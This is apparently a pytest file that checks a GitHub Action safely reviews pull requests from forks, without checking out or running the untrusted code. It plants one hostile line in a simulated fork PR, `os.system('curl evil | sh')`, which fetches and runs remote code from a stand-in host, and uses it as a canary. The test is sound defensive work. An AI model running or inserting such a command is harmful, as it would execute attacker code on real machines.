"""Pull requests from forks (issue 16, 3): no key -> a note and exit 0; a maintainer's label under
pull_request_target -> a review that never checks out the PR's code.

`squad github` runs in a child process as Actions would, against the loopback GitHub server and real git
remotes (a bare `origin` holding the PR head under refs/pull/<n>/head, as GitHub does).
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import git
from github_server import GitHubServer
from test_github_engine import _commit_config, _open_pr, _outputs, _pr_event, _squad_github, _sticky, gh_repo

__all__ = ["gh_repo"]
pytestmark = pytest.mark.timeout(120)


def _fork_event(info: dict[str, Any], action: str = "opened") -> dict[str, Any]:
    event = _pr_event("opened", info)
    event["action"] = action
    event["pull_request"]["head"]["repo"]["full_name"] = "mallory/Hello-World"
    return event


def test_fork_pr_without_a_key_exits_0_with_a_note_and_no_api_call(tmp_path: Path, gh_repo: dict[str, Any]) -> None:
    root = gh_repo["root"]
    _commit_config(root, ["critic"], "")
    _open_pr(gh_repo)
    with GitHubServer() as gh:
        # what a fork's pull_request run gets: no secrets
        no_key = {"ANTHROPIC_API_KEY": "", "ANTHROPIC_AUTH_TOKEN": ""}
        out = _squad_github(tmp_path, gh, root, "pull_request", _fork_event(gh_repo), **no_key)
        assert gh.calls == []  # not even a read: nothing to write, nothing to ask
    assert out.returncode == 0, out.stdout + out.stderr
    summary = (tmp_path / "summary.md").read_text()
    assert "comes from a fork" in summary and "squad-review-forks.yml" in summary and "pull_request_target" in summary
    assert _outputs(tmp_path)["verdict"] == "skipped"


def test_labeled_fork_pr_is_reviewed_without_checking_out_its_code(tmp_path: Path, gh_repo: dict[str, Any]) -> None:
    """pull_request_target checks out the BASE: squad fetches the head's objects and reviews them read-only; the
    work tree keeps the base's files, and nothing of the PR lands in a branch or the index."""
    root, bare = gh_repo["root"], gh_repo["bare"]
    verdict = {"name": "submit_verdict", "input": {"verdict": "approve", "summary": "Read it, fine.", "findings": []}}
    script = tmp_path / "approve.yaml"
    script.write_text(
        yaml.safe_dump(
            {
                "version": 1,
                "scripts": [
                    {
                        "agent": "critic",
                        "task": "review",
                        "turns": [
                            {"tool_calls": [{"name": "read_file", "input": {"path": "app.py"}}]},
                            {"tool_calls": [verdict]},
                        ],
                    }
                ],
            }
        )
    )
    _commit_config(root, ["critic"], f'[models]\nreviewer = "scripted:{script}"\n')
    _open_pr(gh_repo, change="import os\nos.system('curl evil | sh')  # never run\n")
    git(root, "push", "-q", "origin", f"{gh_repo['head']}:refs/pull/2/head")
    git(root, "push", "-q", "origin", "--delete", "changes")  # the fork's branch is not in this repository
    checkout = tmp_path / "checkout"  # what actions/checkout gives pull_request_target: the base branch
    git(tmp_path, "clone", "-q", "--no-local", "--branch", "main", str(bare), str(checkout))
    missing = subprocess.run(["git", "cat-file", "-e", gh_repo["head"]], cwd=checkout, capture_output=True)
    assert missing.returncode != 0
    before = git(checkout, "for-each-ref", "--format=%(refname)").split()
    with GitHubServer() as gh:
        out = _squad_github(
            tmp_path,
            gh,
            checkout,
            "pull_request_target",
            _fork_event(gh_repo, "labeled") | {"label": {"name": "squad-review"}},
            ANTHROPIC_API_KEY="sk-ant-dummy",
        )
        [comment] = _sticky(gh)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "squad review: approve" in comment["body"] and "Read it, fine." in comment["body"]
    assert git(checkout, "cat-file", "-t", gh_repo["head"]).strip() == "commit"  # fetched into the object store
    assert git(checkout, "rev-parse", "HEAD").strip() == gh_repo["base"]  # still the base
    assert "evil" not in (checkout / "app.py").read_text() and git(checkout, "status", "--porcelain") == ""
    refs = git(checkout, "for-each-ref", "--format=%(refname)").split()
    assert refs == before  # no ref names the PR's commits


def test_another_label_does_nothing(tmp_path: Path, gh_repo: dict[str, Any]) -> None:
    root = gh_repo["root"]
    _commit_config(root, ["critic"], "")
    _open_pr(gh_repo)
    with GitHubServer() as gh:
        event = _fork_event(gh_repo, "labeled") | {"label": {"name": "bug"}}
        out = _squad_github(tmp_path, gh, root, "pull_request_target", event, ANTHROPIC_API_KEY="sk-ant-dummy")
        assert gh.calls == []
    assert out.returncode == 0 and "nothing to do" in out.stdout


def test_the_forks_workflow_never_checks_out_or_runs_pr_code() -> None:
    """examples/workflows/squad-review-forks.yml: pull_request_target on a label only; the checkout is the base
    (no `ref:`), no credentials persisted, no `run:` step at all; least privilege."""
    path = Path(__file__).resolve().parents[1] / "examples" / "workflows" / "squad-review-forks.yml"
    wf = yaml.safe_load(path.read_text())
    triggers = wf[True] if True in wf else wf["on"]  # YAML 1.1 reads `on:` as True
    assert triggers == {"pull_request_target": {"types": ["labeled"]}}
    assert wf["permissions"] == {"contents": "read", "pull-requests": "write"}
    [job] = wf["jobs"].values()
    assert job["if"] == "github.event.label.name == 'squad-review'"
    checkout, squad = job["steps"]
    assert checkout["uses"].startswith("actions/checkout@") and "ref" not in checkout["with"]
    assert checkout["with"]["persist-credentials"] is False
    assert squad["with"]["mode"] == "review"
    assert not any("run" in step for step in job["steps"])
